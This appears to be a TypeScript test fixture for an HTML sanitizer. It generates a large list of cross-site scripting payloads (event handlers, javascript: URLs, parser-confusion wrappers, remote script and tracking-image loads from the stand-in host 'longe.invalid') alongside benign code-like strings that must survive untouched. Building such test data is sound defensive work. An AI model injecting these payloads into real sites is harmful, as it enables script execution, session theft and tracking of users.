import { HOSTILE_MARKUP } from '#tests/support/made/hostile-markup.ts'

/** A host that nobody has: whatever asks for it was made to. */
const FAR = 'longe.invalid'
/** What an attack calls when it runs; the browser of the figure counts the calls. */
const CALL = 'marca()'

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe src=/favicon.svg',
  'p',
  'code tabindex=0 autofocus',
  'td',
  'x-quadro tabindex=0 autofocus',
  'marquee',
  'object data=x',
  'select autofocus',
  'a href=# autofocus',
  'button autofocus',
  'math tabindex=0 autofocus',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover', 'onstart']
const QUOTINGS = [
  (handler: string) => ` ${handler}=${CALL}`,
  (handler: string) => ` ${handler}="${CALL}"`,
  (handler: string) => `/${handler.toUpperCase()}='${CALL}'`,
  (handler: string) => `\t${handler}\n=\n${CALL} `,
  (handler: string) => ` alt="" ${handler}=&#109;arca&lpar;&rpar;`,
]

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java&#9;script:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  ` \u0001javascript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
]
const CARRIERS = [
  (to: string) => `<a href="${to}">texto</a>`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<form action="${to}"><button autofocus>Enviar</button></form>`,
  (to: string) => `<button formaction="${to}">Enviar</button>`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<embed src="${to}">`,
  (to: string) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to: string) => `<svg><use href="${to}"/></svg>`,
  (to: string) => `<math href="${to}">x</math>`,
  (to: string) => `<table background="${to}"><tr><td background="${to}">x</td></tr></table>`,
  (to: string) => `<link rel="stylesheet" href="${to}">`,
  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to: string) => `<base href="${to}">`,
]

const ADDRESSES = [`//${FAR}/x`, `https://${FAR}/x`, `\\\\${FAR}\\x`, `https:/${FAR}/x`, `/&Tab;/${FAR}/x`]
const LOADERS = [
  (from: string) => `<img src="${from}">`,
  (from: string) => `<img srcset="${from} 1x, ${from} 2x">`,
  (from: string) => `<picture><source srcset="${from}"><img alt=""></picture>`,
  (from: string) => `<video poster="${from}" src="${from}" autoplay></video>`,
  (from: string) => `<link rel="prefetch stylesheet" href="${from}">`,
  (from: string) => `<style>@import "${from}"; p { background: url(${from}) }</style>`,
  (from: string) => `<p style="background:url(${from})">x</p>`,
  (from: string) => `<svg><image href="${from}"/></svg>`,
  (from: string) => `<svg><filter id="f"><feImage href="${from}"/></filter></svg>`,
  (from: string) => `<iframe src="${from}"></iframe>`,
  (from: string) => `<input type="image" src="${from}">`,
  (from: string) => `<audio><track src="${from}" default><source src="${from}"></audio>`,
]

/** Mark-up that one parser takes for text and another for elements. */
const DISGUISES = [
  (core: string) => `<noscript><p title="</noscript>${core}"></noscript>`,
  (core: string) => `<textarea></textarea/>${core}</textarea>`,
  (core: string) => `<title><p title="</title>${core}"></title>`,
  (core: string) => `<svg><style><p id="</style>${core}"></style></svg>`,
  (core: string) => `<math><mtext><table><mglyph><style><!--</style>${core}--></style>`,
  (core: string) => `<!--><p>--!>${core}`,
  (core: string) => `<svg><![CDATA[>${core}]]></svg>`,
  (core: string) => `<template>${core}</template>`,
  (core: string) => `<select><template>${core}</template></select>`,
  (core: string) => `<table><tr>${core}<td></table>`,
  (core: string) => `<code class="language-x">${core}</code>`,
  (core: string) => `<p title='"'>"${core}<p title="'">`,
  (core: string) => core.replaceAll('<', '<\u0000'),
  (core: string) => core.replace('<', '<<').replace('>', '>>'),
]
const CORES = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<script src="//${FAR}/x.js"></script>`,
  `<img src="https://${FAR}/espiao.gif">`,
]

/** Each handler on each element, written in two of the ways in turn. */
const handlerCases = ELEMENTS.flatMap((element, at) =>
  HANDLERS.flatMap((handler, other) =>
    [at + other, at + other + 2].map((way) => {
      const quoting = QUOTINGS[way % QUOTINGS.length]
      return `<${element}${quoting?.(handler) ?? ''}>texto`
    }),
  ),
)

/** Attempts to run a script or to load from elsewhere, each once. */
export const HOSTILE_CASES: readonly string[] = [
  ...new Set([
    ...handlerCases,
    ...CARRIERS.flatMap((carrier) => SCHEMES.map(carrier)),
    ...LOADERS.flatMap((loader) => ADDRESSES.map(loader)),
    ...DISGUISES.flatMap((disguise) => CORES.map(disguise)),
    ...HOSTILE_MARKUP,
  ]),
]

/** What people who write of code type, and want to read again as they typed it. */
export const HONEST_TEXTS: readonly string[] = [
  'List<string>',
  'a < b',
  'a<b && c>d',
  'Map<String, List<Integer>>',
  'kubectl get pod <nome> -n <espaço>',
  'if (x <= 3 || y >= 4) return',
  '<T extends Comparable<T>>',
  'std::vector<int> v; v.push_back(1 << 3);',
  '"aspas" e \'apóstrofos\' & companhia',
  'R$ 10 < R$ 20',
  '5 > 3 > 1',
  'use <b> para negrito e <script> para código',
  '&lt;não decodifique&gt; &amp; nem isto',
  'SELECT * FROM t WHERE a <> b',
  'echo $(( 1 << 2 )) > saída.txt 2>&1',
  '<!-- comentário -->',
  '</fim>',
  'x <- 10',
  'Array<Promise<void>>',
  '1 <2> 3',
]
